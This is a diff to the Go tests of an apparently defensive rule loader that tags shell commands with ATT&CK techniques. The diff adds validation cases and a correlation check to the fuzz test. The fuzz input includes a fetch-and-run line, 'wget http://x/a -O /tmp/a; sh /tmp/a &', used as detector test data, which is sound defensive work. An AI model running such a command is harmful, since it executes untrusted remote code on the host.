@@ -54,7 +54,10 @@ func TestLoadProblems(t *testing.T) {
 	for _, tt := range []struct{ name, file, want string }{
 		{"no YAML", "a: [", "dir/a.yaml:1: not valid YAML: did not find expected node content"},
 		{"empty", "", "dir/a.yaml: file is empty"},
-		{"two documents", ok + "---\na: b\n", "dir/a.yaml: file holds more than one document"},
+		{"a document that is no rule", rule("X1", "{}") + "---\na: b\n", "dir/a.yaml:11: a: unknown key"},
+		{"documents without end", strings.Repeat("---\na: b\n", 1001), "dir/a.yaml: file holds more than 1000 documents"},
+		{"aliases in many documents", strings.Repeat("---\n"+bomb(), 20), "dir/a.yaml: file is too large once its aliases are written out"},
+		{"id of the program", rule("lifter:x", "{pattern: x}"), `dir/a.yaml:1: rule_id: "lifter:x" begins with lifter:, as those of the program do`},
 		{"a list", "- a\n", "dir/a.yaml:1: a list, want a mapping of keys to values"},
 		{"unknown field", ok + "descripton: x\n", `dir/a.yaml:10: descripton: unknown key, did you mean "description"?`},
 		{"key twice", ok + "name: b\n", "dir/a.yaml:10: name: stands twice"},
@@ -74,7 +77,8 @@ func TestLoadProblems(t *testing.T) {
 		{"kind", rule("X1", "{kind: canary}"), `dir/a.yaml:5: match.kind: "canary", want lifter:NAME`},
 		{"boolean", rule("X1", "{background: maybe}"), `dir/a.yaml:5: match.background: "maybe", want true or false`},
 		{"shell fields of a canary", rule("X1", "{program: x}", "[command]", "[canary_fingerprint]"), "dir/a.yaml:5: match: tests the parts of a shell command, but applies_to has no command"},
-		{"no emits", rule("X1", "{pattern: x}", "emits:\n  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}", "emits: []"), "dir/a.yaml:6: emits: a list, want a list of {tactic, technique_id, sub_technique_id, confidence}"},
+		{"no emits", rule("X1", "{pattern: x}", "emits:\n  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}", ""), "dir/a.yaml:1: emits: is missing"},
+		{"emits nothing", rule("X1", "{pattern: x}", "emits:\n  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}", "emits:"), "dir/a.yaml:6: emits: nothing, want a list of {tactic, technique_id, sub_technique_id, confidence}"},
 		{"confidence", rule("X1", "{pattern: x}", "0.7", "1.7"), `dir/a.yaml:7: emits[0].confidence: "1.7", want a number from 0 to 1`},
 		{"level", ok + "level: severe\n", `dir/a.yaml:10: level: "severe", want informational, low, medium, high or critical`},
 		{"level in capitals", ok + "level: High\n", `dir/a.yaml:10: level: "High", want informational, low, medium, high or critical`},
@@ -163,7 +167,7 @@ func TestLoadOverride(t *testing.T) {
 	first := folder("a.yaml", rule("A", "{pattern: one}"), "b.yaml", rule("B", "{pattern: x}"), "b_again.yaml", rule("B", "{pattern: y}"))
 	second := folder("mine.yaml", rule("A", "{pattern: two}", "rule_version: 1", "rule_version: 7"))
 	rs, report := tagger.Load(options(tagger.Folder{Name: "one", FS: first}, tagger.Folder{Name: "two", FS: second}))
-	if len(report.Problems) != 1 || report.Problems[0].String() != "one/b_again.yaml: rule_id: B is already the id of b.yaml" {
+	if len(report.Problems) != 1 || report.Problems[0].String() != "one/b_again.yaml:1: rule_id: B is already the id of b.yaml" {
 		t.Errorf("problems %v", report.Problems)
 	}
 	if report.Replaced != 1 || report.Loaded != 2 || report.Refused() != 1 {
@@ -194,7 +198,7 @@ func TestLoadNothing(t *testing.T) {
 }
 
 // FuzzLoad holds that whatever a file says, it gives a rule or a problem that
-// fits on a line, and that a rule that loads can be run.
+// fits on a line, that a rule that loads can be run, and a correlation that loads judged.
 func FuzzLoad(f *testing.F) {
 	f.Add([]byte(rule("A", "{pattern: '(?i)a(?=b)', field: x}")))
 	f.Add([]byte(rule("A", "{all: [{program: [a, b]}, {not: {args: {glob: '*x[!a-z]', not: {contains: y}}}}], some: {url: {count_min: 2}}}")))
@@ -211,8 +215,14 @@ func FuzzLoad(f *testing.F) {
 		if rs.Len() == 0 && report.Refused() == 0 {
 			t.Fatal("neither a rule nor a problem")
 		}
-		if rs.Len() == 1 && report.Refused() > 0 {
-			t.Fatalf("a rule in spite of %v", report.Problems)
+		inForce := map[string]bool{}
+		for _, r := range rs.Correlations() {
+			inForce[r.Def().ID] = true
+		}
+		for _, r := range rs.Rules() {
+			if r.Correlation != nil && r.Inert == "" != inForce[r.ID] {
+				t.Fatalf("%s: inert %q, in force %v", r.ID, r.Inert, inForce[r.ID])
+			}
 		}
 		c := rs.Tagger(nil)
 		for _, text := range []string{"", "a b", "wget http://x/a -O /tmp/a; sh /tmp/a &", string(data)} {
